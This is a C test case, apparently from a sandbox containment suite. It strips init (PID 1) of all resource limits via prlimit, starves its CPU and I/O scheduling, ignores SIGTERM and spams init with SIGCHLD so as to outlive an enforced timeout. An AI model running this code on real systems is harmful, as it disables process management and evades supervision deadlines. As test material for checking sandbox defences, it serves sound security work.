/* class: processes
 * what: cripples init, which has the same user: takes its descriptors, stack, file size and processor time by prlimit, its processor by scheduling, then outlives the deadline
 * reason: timeout
 * timeout: 1
 * levels: low high
 * outside: no_process_left
 */
#include "attack.h"
#include <sys/resource.h>

int main(void)
{
    need_to_be_alone();
    signal(SIGTERM, SIG_IGN);
    for (int kind = 0; kind < 16; kind++) {
        struct rlimit none = { 0, 0 };
        (void)syscall(SYS_prlimit64, 1, kind, &none, NULL);
    }
    struct sched_param p = { 0 };
    unsigned long no_cpu[16] = { 1 };
    (void)sched_setscheduler(1, 5 /* SCHED_IDLE */, &p);
    (void)setpriority(PRIO_PROCESS, 1, 19);
    (void)syscall(SYS_sched_setaffinity, 1, sizeof no_cpu, no_cpu);
    (void)syscall(SYS_ioprio_set, 1, 1, 3 << 13);
    double until = seconds(CLOCK_MONOTONIC) + 12;
    while (seconds(CLOCK_MONOTONIC) < until)
        kill(1, SIGCHLD);
    escaped("outlived the deadline by far");
}
